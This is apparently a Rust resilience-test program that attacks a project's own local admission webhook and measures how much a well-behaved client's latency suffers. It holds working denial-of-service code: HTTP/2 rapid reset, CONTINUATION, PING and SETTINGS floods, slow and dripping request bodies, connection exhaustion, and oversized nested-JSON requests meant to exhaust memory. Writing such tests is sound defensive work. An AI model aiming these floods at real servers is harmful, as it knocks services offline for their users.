//! Attacks a webhook in several ways while a well-behaved client asks for reviews, and prints what the
//! client notices. `scripts/attack` runs it.
//!
//! With `memory` instead of the number of seconds, asks for many of the most expensive reviews at once.
//!
//! The attacker connects from 127.0.0.2, the client from 127.0.0.1.

#![expect(clippy::print_stdout, clippy::print_stderr, reason = "it prints")]

use std::error::Error;
use std::io::{self, Read, Write};
use std::net::{IpAddr, SocketAddr, TcpStream};
use std::process::ExitCode;
use std::sync::Arc;
use std::time::{Duration, Instant};

use rustls::pki_types::pem::PemObject;
use rustls::pki_types::{CertificateDer, ServerName};
use rustls::{ClientConfig, ClientConnection, RootCertStore, StreamOwned};

/// The time between two requests of the well-behaved client.
const INTERVAL: Duration = Duration::from_millis(10);
/// How many times longer than without an attack the client may wait for 99 of 100 answers.
const FACTOR: f64 = 4.0;
/// The connections of an attack.
const CONNECTIONS: usize = 8;
/// The requests of an attack on each connection, unless the server allows fewer.
const STREAMS: u32 = 130;

type Result<T> = std::result::Result<T, Box<dyn Error + Send + Sync>>;
type Tls = StreamOwned<ClientConnection, TcpStream>;

/// Runs on a connection until an error or the deadline.
type Attack = fn(&Server, Instant) -> io::Result<()>;

const ATTACKS: [(&str, usize, Attack); 7] = [
    ("bodies that stall", CONNECTIONS, stall),
    ("bodies byte by byte", CONNECTIONS, drip),
    ("idle connections", 1, idle),
    ("rapid reset", 1, rapid_reset),
    ("endless headers", 1, continuation),
    ("pings", 1, ping),
    ("settings", 1, settings),
];

fn main() -> ExitCode {
    match run() {
        Ok(true) => ExitCode::SUCCESS,
        Ok(false) => ExitCode::FAILURE,
        Err(error) => {
            eprintln!("error: {error}");
            ExitCode::from(2)
        }
    }
}

fn run() -> Result<bool> {
    let arguments: Vec<String> = std::env::args().skip(1).collect();
    let [address, authority, review, seconds] = &*arguments else {
        return Err("usage: attack ADDRESS:PORT CA REVIEW SECONDS|memory".into());
    };
    let server = Server::new(address.parse()?, authority)?;
    let review = std::fs::read_to_string(review)?;
    if seconds == "memory" {
        ask_for_expensive_reviews(&server);
        return Ok(true);
    }
    let duration = Duration::from_secs(seconds.parse()?);
    let before = server.ask(&review, Instant::now() + duration)?;
    println!("| attack | answers | without an answer | p99 | as often as without an attack |");
    println!("|---|---|---|---|---|");
    before.print("none", &before);
    let mut is_well = true;
    for (name, threads, attack) in ATTACKS {
        let deadline = Instant::now() + duration;
        let during = std::thread::scope(|scope| {
            for _ in 0..threads {
                scope.spawn(|| {
                    while Instant::now() < deadline {
                        // The server may end the connection; the attack then begins again.
                        if attack(&server, deadline).is_err() {
                            std::thread::sleep(Duration::from_millis(20));
                        }
                    }
                });
            }
            // The attack has begun.
            std::thread::sleep(duration / 10);
            server.ask(&review, deadline)
        })?;
        during.print(name, &before);
        is_well &= during.failed == 0 && during.p99() < FACTOR * before.p99();
    }
    Ok(is_well)
}

/// More reviews than there is memory for bodies, of Jobs of almost 3 MiB each that differ in the
/// innermost of many lists. Some get no answer in time.
fn ask_for_expensive_reviews(server: &Server) {
    const REVIEWS: usize = 48;
    const LEVELS: usize = 100;
    let job = |last: u8| {
        let zeros = "0,".repeat(1_560_000);
        let (begin, end) = ("[".repeat(LEVELS), ",1]".repeat(LEVELS - 1));
        format!(
            r#"{{"apiVersion":"batch.volcano.sh/v1alpha1","kind":"Job","metadata":{{"name":"a"}},
            "spec":{{"plugins":{{"ssh":{begin}{zeros}{last}]{end}}}}}}}"#
        )
    };
    let kind = r#""group":"batch.volcano.sh","version":"v1alpha1""#;
    let review = format!(
        r#"{{"apiVersion":"admission.k8s.io/v1","kind":"AdmissionReview","request":{{"uid":"a",
        "kind":{{{kind},"kind":"Job"}},"resource":{{{kind},"resource":"jobs"}},"operation":"UPDATE",
        "name":"a","object":{},"oldObject":{}}}}}"#,
        job(1),
        job(2)
    );
    std::thread::scope(|scope| {
        for _ in 0..REVIEWS {
            scope.spawn(|| drop(server.ask(&review, Instant::now() + Duration::from_secs(1))));
        }
    });
}

/// What the well-behaved client noticed.
struct Noticed {
    milliseconds: Vec<f64>,
    failed: usize,
}

impl Noticed {
    fn p99(&self) -> f64 {
        let position = self.milliseconds.len() * 99 / 100;
        self.milliseconds.get(position).copied().unwrap_or(f64::INFINITY)
    }

    fn print(&self, name: &str, before: &Self) {
        let (answers, failed, p99) = (self.milliseconds.len(), self.failed, self.p99());
        println!("| {name} | {answers} | {failed} | {p99:.2} ms | {:.1} × |", p99 / before.p99());
    }
}

struct Server {
    address: SocketAddr,
    config: Arc<ClientConfig>,
    http2: Arc<ClientConfig>,
}

impl Server {
    fn new(address: SocketAddr, authority: &str) -> Result<Self> {
        let mut roots = RootCertStore::empty();
        roots.add(CertificateDer::from_pem_file(authority)?)?;
        let provider = Arc::new(rustls::crypto::ring::default_provider());
        let config = ClientConfig::builder_with_provider(provider)
            .with_safe_default_protocol_versions()?
            .with_root_certificates(roots)
            .with_no_client_auth();
        let mut http2 = config.clone();
        http2.alpn_protocols = vec![b"h2".to_vec()];
        Ok(Self { address, config: config.into(), http2: http2.into() })
    }

    fn connect(&self, from: &str, config: &Arc<ClientConfig>) -> io::Result<Tls> {
        let socket = socket2::Socket::new(socket2::Domain::IPV4, socket2::Type::STREAM, None)?;
        let from: IpAddr = from.parse().map_err(io::Error::other)?;
        socket.bind(&SocketAddr::new(from, 0).into())?;
        socket.connect(&self.address.into())?;
        let stream = TcpStream::from(socket);
        stream.set_nodelay(true)?;
        stream.set_read_timeout(Some(Duration::from_secs(30)))?;
        let name = ServerName::try_from("localhost").map_err(io::Error::other)?;
        let connection =
            ClientConnection::new(Arc::clone(config), name).map_err(io::Error::other)?;
        Ok(StreamOwned::new(connection, stream))
    }

    /// Asks for the review again and again over one connection.
    fn ask(&self, review: &str, deadline: Instant) -> Result<Noticed> {
        let request = format!(
            "POST /validate HTTP/1.1\r\nhost: localhost\r\ncontent-type: application/json\r\n\
             content-length: {}\r\n\r\n{review}",
            review.len()
        );
        let mut connection = self.connect("127.0.0.1", &self.config)?;
        let mut noticed = Noticed { milliseconds: Vec::new(), failed: 0 };
        while Instant::now() < deadline {
            let started = Instant::now();
            match exchange(&mut connection, &request) {
                Ok(200) => noticed.milliseconds.push(started.elapsed().as_secs_f64() * 1000.0),
                Ok(_) => noticed.failed += 1,
                Err(_) => {
                    noticed.failed += 1;
                    connection = self.connect("127.0.0.1", &self.config)?;
                }
            }
            std::thread::sleep(INTERVAL.saturating_sub(started.elapsed()));
        }
        noticed.milliseconds.sort_by(f64::total_cmp);
        Ok(noticed)
    }
}

/// Sends a request and returns the status of the answer.
fn exchange(connection: &mut Tls, request: &str) -> io::Result<u16> {
    connection.write_all(request.as_bytes())?;
    connection.flush()?;
    let mut head = Vec::new();
    while !head.ends_with(b"\r\n\r\n") {
        let mut byte = [0];
        connection.read_exact(&mut byte)?;
        head.extend(byte);
    }
    let head = String::from_utf8_lossy(&head).to_ascii_lowercase();
    let length = head.lines().find_map(|line| line.strip_prefix("content-length: ")?.parse().ok());
    let mut body = vec![0; length.unwrap_or(0)];
    connection.read_exact(&mut body)?;
    let status = head.split(' ').nth(1).and_then(|status| status.parse().ok());
    status.ok_or_else(|| io::Error::other("no status"))
}

/// A connection that sends frames of HTTP/2 and ignores what it receives.
struct Frames(Tls);

/// The types of frames, see <https://www.rfc-editor.org/rfc/rfc9113#name-frame-definitions>.
mod frame {
    pub(super) const DATA: u8 = 0;
    pub(super) const HEADERS: u8 = 1;
    pub(super) const RST_STREAM: u8 = 3;
    pub(super) const SETTINGS: u8 = 4;
    pub(super) const PING: u8 = 6;
    pub(super) const CONTINUATION: u8 = 9;
    pub(super) const END_HEADERS: u8 = 4;
}

impl Frames {
    fn connect(server: &Server) -> io::Result<Self> {
        let mut connection = server.connect("127.0.0.2", &server.http2)?;
        connection.write_all(b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n")?;
        let mut frames = Self(connection);
        frames.send(frame::SETTINGS, 0, 0, &[])?;
        frames.0.sock.set_read_timeout(Some(Duration::from_millis(1)))?;
        Ok(frames)
    }

    fn send(&mut self, kind: u8, flags: u8, stream: u32, payload: &[u8]) -> io::Result<()> {
        let length = u32::try_from(payload.len()).map_err(io::Error::other)?.to_be_bytes();
        let [_, length @ ..] = length;
        self.0.write_all(&length)?;
        self.0.write_all(&[kind, flags])?;
        self.0.write_all(&stream.to_be_bytes())?;
        self.0.write_all(payload)
    }

    /// Begins a POST that announces a body of 1 MiB.
    fn begin(&mut self, stream: u32) -> io::Result<()> {
        // :method POST, :scheme https, then literals for :path, :authority, content-type and
        // content-length.
        let mut headers = vec![0x83, 0x87];
        for (name, value) in [
            (&[0x04][..], "/validate"),
            (&[0x01], "localhost"),
            (&[0x0f, 0x10], "application/json"),
            (&[0x0f, 0x0d], "1048576"),
        ] {
            headers.extend(name);
            headers.push(u8::try_from(value.len()).map_err(io::Error::other)?);
            headers.extend(value.as_bytes());
        }
        self.send(frame::HEADERS, frame::END_HEADERS, stream, &headers)
    }

    /// Reads what there is and ignores it.
    fn ignore_input(&mut self) -> io::Result<()> {
        self.0.flush()?;
        let mut buffer = [0; 16 * 1024];
        loop {
            match self.0.read(&mut buffer) {
                Ok(0) => return Err(io::ErrorKind::UnexpectedEof.into()),
                Ok(_) => {}
                Err(error)
                    if matches!(
                        error.kind(),
                        io::ErrorKind::WouldBlock | io::ErrorKind::TimedOut
                    ) =>
                {
                    return Ok(());
                }
                Err(error) => return Err(error),
            }
        }
    }
}

/// The requests of a connection: the odd numbers.
fn streams() -> impl Iterator<Item = u32> {
    (1..=i32::MAX.unsigned_abs()).step_by(2)
}

/// Announces bodies, sends one byte of each, and begins others when those are given up.
fn stall(server: &Server, deadline: Instant) -> io::Result<()> {
    let mut frames = Frames::connect(server)?;
    for (count, stream) in (1..).zip(streams()) {
        frames.begin(stream)?;
        frames.send(frame::DATA, 0, stream, b"{")?;
        if count >= STREAMS {
            frames.ignore_input()?;
            std::thread::sleep(Duration::from_millis(20));
        }
        if Instant::now() >= deadline {
            break;
        }
    }
    Ok(())
}

/// Sends a byte of each body now and then.
fn drip(server: &Server, deadline: Instant) -> io::Result<()> {
    let mut frames = Frames::connect(server)?;
    let streams: Vec<u32> = streams().take(100).collect();
    for stream in &streams {
        frames.begin(*stream)?;
    }
    while Instant::now() < deadline {
        for stream in &streams {
            frames.send(frame::DATA, 0, *stream, b" ")?;
        }
        frames.ignore_input()?;
        std::thread::sleep(Duration::from_millis(100));
    }
    Ok(())
}

/// Opens as many connections as it can.
#[expect(clippy::unnecessary_wraps, reason = "an attack")]
fn idle(server: &Server, deadline: Instant) -> io::Result<()> {
    let mut connections = Vec::new();
    while Instant::now() < deadline {
        if let Ok(mut connection) = server.connect("127.0.0.2", &server.http2) {
            // Completes the handshake.
            if connection.flush().is_ok() {
                connections.push(connection);
                continue;
            }
        }
        std::thread::sleep(Duration::from_millis(20));
    }
    Ok(())
}

/// Begins requests and resets them at once.
fn rapid_reset(server: &Server, deadline: Instant) -> io::Result<()> {
    let mut frames = Frames::connect(server)?;
    for stream in streams() {
        frames.begin(stream)?;
        frames.send(frame::RST_STREAM, 0, stream, &8_u32.to_be_bytes())?;
        if stream % 64 == 1 {
            frames.ignore_input()?;
        }
        if Instant::now() >= deadline {
            break;
        }
    }
    Ok(())
}

/// Sends headers without an end.
fn continuation(server: &Server, deadline: Instant) -> io::Result<()> {
    let mut frames = Frames::connect(server)?;
    frames.send(frame::HEADERS, 0, 1, &[0x83, 0x87])?;
    // A header x: yyyy….
    let header = [&[0x00, 1, b'x', 100][..], &[b'y'; 100]].concat();
    for turn in 0_u32.. {
        frames.send(frame::CONTINUATION, 0, 1, &header)?;
        if turn.is_multiple_of(64) {
            frames.ignore_input()?;
        }
        if Instant::now() >= deadline {
            break;
        }
    }
    Ok(())
}

fn ping(server: &Server, deadline: Instant) -> io::Result<()> {
    flood(server, deadline, frame::PING, &[0; 8])
}

fn settings(server: &Server, deadline: Instant) -> io::Result<()> {
    // SETTINGS_MAX_FRAME_SIZE
    flood(server, deadline, frame::SETTINGS, &[0, 5, 0, 0, 0x40, 0])
}

/// Sends the same frame again and again.
fn flood(server: &Server, deadline: Instant, kind: u8, payload: &[u8]) -> io::Result<()> {
    let mut frames = Frames::connect(server)?;
    for turn in 0_u32.. {
        frames.send(kind, 0, 0, payload)?;
        if turn.is_multiple_of(256) {
            frames.ignore_input()?;
        }
        if Instant::now() >= deadline {
            break;
        }
    }
    Ok(())
}
